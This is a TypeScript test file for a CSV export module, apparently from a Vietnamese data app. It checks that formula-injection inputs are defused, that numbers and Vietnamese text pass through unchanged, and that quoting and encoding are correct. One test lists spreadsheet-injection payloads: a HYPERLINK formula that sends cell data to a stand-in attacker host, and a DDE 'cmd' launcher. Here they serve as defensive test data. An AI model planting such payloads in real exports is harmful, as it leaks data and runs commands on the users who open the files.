import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvText, guardText } from '../../../src/analysis/csv.ts';

/** What a spreadsheet would read from the file: the cells of each row. */
function cells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('the one CSV writer', () => {
  it('defuses every formula lead with an apostrophe', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
      '+1+1',
      '@SUM(1,1)',
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '-x',
    ];
    const [, row] = cells(csvText(['v1', 'v2', 'v3', 'v4', 'v5', 'v6', 'v7', 'v8'], [hostile]));
    expect(row).toEqual(hostile.map((h) => `'${h}`));
  });

  it('keeps numbers numbers: negatives, zero, decimals; text that is a plain number stays as it is', () => {
    const [, row] = cells(csvText(['a', 'b', 'c', 'd', 'e', 'f'], [[-3, -0.25, 0, -0, 12.5, '-12']]));
    expect(row).toEqual(['-3', '-0.25', '0', '0', '12.5', '-12']);
    expect(csvCell(-1500000)).toBe('-1500000');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('leaves ordinary Vietnamese text alone and quotes what needs quoting (RFC 4180)', () => {
    expect(guardText('Xóm -2')).toBe('Xóm -2');
    expect(guardText('Thôn 3 + 4')).toBe('Thôn 3 + 4');
    const csv = csvText(['name'], [['Xóm "Đông", Bắc'], ['a\r\nb']]);
    expect(csv).toBe('\uFEFFname\r\n"Xóm ""Đông"", Bắc"\r\n"a\r\nb"\r\n');
  });

  it('writes UTF-8 with a byte-order mark and CRLF line ends', () => {
    expect(csvText(['id', 'households'], [['h1', 120]])).toBe('\uFEFFid,households\r\nh1,120\r\n');
  });
});
